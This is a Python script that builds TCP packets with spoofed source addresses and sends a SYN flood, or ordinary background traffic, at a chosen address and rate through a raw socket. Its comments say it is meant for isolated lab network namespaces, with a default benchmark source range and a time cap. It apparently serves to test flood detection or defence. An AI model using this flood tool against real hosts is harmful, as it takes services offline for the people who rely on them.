"""A flood of SYNs from many addresses to one, or the everyday traffic beside it, out of the namespace that it is started in.

Addresses are those that nobody has (198.19.128.0/17 is of the laboratories' own, RFC 2544), and the namespaces have no way out.
Ends by itself, or after SIGTERM; prints the moments of the first and the last packet, and how many there were.
"""

import argparse
import ipaddress
import json
import random
import signal
import socket
import struct
import time

# Packets made before it begins, each from another address and port; then they come again.
POOL = 32_768

# Seconds between two looks at what is due.
TICK = 0.002

# It has to end by itself, whatever is asked for.
MOST_SECONDS = 900

SYN, PUSH_ACK = 2, 24


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, port, flags, data, dice):
    """An IPv4 packet of TCP; the kernel fills in the checksum of IP."""
    fields = [dice.randrange(1024, 65_536), port, dice.getrandbits(32), 0, 5 << 4, flags, 64_240, 0, 0]
    pseudo = source + target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, 20 + len(data))
    fields[7] = checksum(pseudo + struct.pack(">HHIIBBHHH", *fields) + data)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40 + len(data), 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    return ip + struct.pack(">HHIIBBHHH", *fields) + data


def flood(pool, target, pps, seconds, tick, stop):
    """Gives the moments of the first and the last packet, in microseconds, and their number."""
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin, sent, last = time.monotonic(), 0, 0
    first = time.time_ns() // 1000
    while sent < pps * seconds and not stop:
        due = min(pps * seconds, (time.monotonic() - begin) * pps + 1)
        while sent < due:
            try:
                out.sendto(pool[sent % len(pool)], (target, 0))
            except OSError:
                # A link on the way is down.
                pass
            sent += 1
        last = time.time_ns() // 1000
        time.sleep(tick)
    return first, last, sent


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--to", required=True, metavar="ADDRESS")
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--sources", type=ipaddress.ip_network, default="198.19.128.0/17")
    parser.add_argument("--pps", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--everyday", action="store_true", help="few large packets of conversations instead of SYNs")
    options = parser.parse_args()
    dice = random.Random(1)
    sources = ipaddress.ip_network(options.sources)
    target = socket.inet_aton(options.to)
    flags, data, size, tick = (PUSH_ACK, bytes(400), POOL // 64, 10 * TICK) if options.everyday else (SYN, b"", POOL, TICK)
    source = lambda: sources[dice.randrange(sources.num_addresses)].packed
    pool = [packet(source(), target, options.port, flags, data, dice) for _ in range(size)]
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(True))
    first, last, packets = flood(pool, options.to, options.pps, min(options.seconds, MOST_SECONDS), tick, stop)
    print(json.dumps({"first": first, "last": last, "packets": packets, "sources": len({it[12:16] for it in pool})}))


if __name__ == "__main__":
    main()
